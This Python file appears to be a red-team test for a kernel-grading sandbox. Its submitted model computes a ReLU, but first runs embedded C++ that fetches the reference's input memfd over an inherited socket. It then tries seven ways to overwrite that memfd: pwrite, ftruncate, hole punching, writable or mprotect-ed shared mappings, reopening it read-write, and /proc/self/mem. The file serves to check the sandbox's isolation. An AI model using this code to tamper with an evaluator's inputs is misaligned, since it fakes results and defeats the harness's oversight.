"""Writes into the inputs it was handed, so that the reference's view of them changes: asks the
reference's exchange for the input set's memfd again (over the candidate's own connection) and tries
every way of writing it (pwrite, ftruncate, a writable shared mapping, reopening it read-write,
punching a hole, turning a read-only shared mapping writable, /proc/self/mem)."""

import torch
import torch.nn as nn

from kforge_worker import native

SRC = r"""
#include <cerrno>
#include <cstdint>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <dirent.h>
#include <fcntl.h>
#include <linux/falloc.h>
#include <poll.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <unistd.h>

extern "C" void relu(const float* x, float* y, int64_t n) {
    for (int64_t i = 0; i < n; ++i) y[i] = x[i] > 0.f ? x[i] : 0.f;
}

// The input set's memfd, fetched again over an open SOCK_SEQPACKET connection (the exchange's).
static int fetch_inputs() {
    DIR* d = opendir("/proc/self/fd");
    int found = -1;
    while (dirent* e = d ? readdir(d) : nullptr) {
        int s = atoi(e->d_name);
        int type = 0;
        socklen_t len = sizeof type;
        if (getsockopt(s, SOL_SOCKET, SO_TYPE, &type, &len) != 0 || type != SOCK_SEQPACKET) continue;
        const char ask[] = "{\"op\": \"get\", \"name\": \"inputs_main_0\"}";
        if (send(s, ask, sizeof ask - 1, 0) < 0) continue;
        char data[4096], control[CMSG_SPACE(sizeof(int))];
        iovec io = {data, sizeof data};
        msghdr m = {};
        m.msg_iov = &io;
        m.msg_iovlen = 1;
        m.msg_control = control;
        m.msg_controllen = sizeof control;
        pollfd p = {s, POLLIN, 0};  // the worker's socket is non-blocking
        if (poll(&p, 1, 10000) != 1 || recvmsg(s, &m, 0) <= 0) continue;
        cmsghdr* c = CMSG_FIRSTHDR(&m);
        if (c && c->cmsg_type == SCM_RIGHTS) { memcpy(&found, CMSG_DATA(c), sizeof(int)); break; }
    }
    if (d) closedir(d);
    return found;
}

static void add(char* msg, const char* what, bool worked) {
    size_t n = strlen(msg);
    snprintf(msg + n, 1023 - n, "%s%s: %s", n ? "; " : "", what, worked ? "wrote" : strerror(errno));
}

extern "C" void attack(int32_t* ok, char* msg) {
    int fd = fetch_inputs();
    if (fd < 0) { snprintf(msg, 1023, "no input memfd could be fetched"); *ok = 0; return; }
    struct stat st;
    fstat(fd, &st);
    const off_t size = st.st_size, at = size - 64;
    char before[64], after[64], junk[64];
    memset(junk, 0x7f, sizeof junk);
    pread(fd, before, sizeof before, at);
    msg[0] = 0;
    add(msg, "pwrite", pwrite(fd, junk, sizeof junk, at) == (ssize_t)sizeof junk);
    add(msg, "ftruncate", ftruncate(fd, 0) == 0);
    add(msg, "fallocate punch hole", fallocate(fd, FALLOC_FL_PUNCH_HOLE | FALLOC_FL_KEEP_SIZE, at, 64) == 0);
    void* rw = mmap(nullptr, size, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0);
    if (rw != MAP_FAILED) memcpy((char*)rw + at, junk, sizeof junk);
    add(msg, "mmap shared writable", rw != MAP_FAILED);
    char via[64];
    snprintf(via, sizeof via, "/proc/self/fd/%d", fd);
    int again = open(via, O_RDWR);
    add(msg, "reopen read-write and write", again >= 0 && pwrite(again, junk, sizeof junk, at) == (ssize_t)sizeof junk);
    void* ro = mmap(nullptr, size, PROT_READ, MAP_SHARED, fd, 0);
    bool turned = ro != MAP_FAILED && mprotect(ro, size, PROT_READ | PROT_WRITE) == 0;
    if (turned) memcpy((char*)ro + at, junk, sizeof junk);
    add(msg, "mprotect a shared mapping writable", turned);
    int mem = open("/proc/self/mem", O_RDWR);
    bool poked = mem >= 0 && ro != MAP_FAILED && pwrite(mem, junk, sizeof junk, (off_t)(uintptr_t)ro + at) == 64;
    add(msg, "/proc/self/mem into a shared mapping", poked);
    pread(fd, after, sizeof after, at);
    *ok = memcmp(before, after, sizeof before) != 0;
}
"""
_lib = native.load(SRC, {"relu": [native.PTR, native.PTR, native.I64], "attack": [native.PTR, native.PTR]})


class ModelNew(nn.Module):
    def forward(self, x):
        x = x.contiguous()
        ok = torch.zeros(1, dtype=torch.int32)
        msg = torch.zeros(1024, dtype=torch.uint8)
        _lib.attack(native.ptr(ok, None), native.ptr(msg, None))
        if not int(ok[0]):
            raise RuntimeError("attack blocked: " + bytes(msg.tolist()).split(b"\0")[0].decode(errors="replace"))
        out = torch.empty_like(x)
        _lib.relu(native.ptr(x), native.ptr(out), x.numel())
        return out
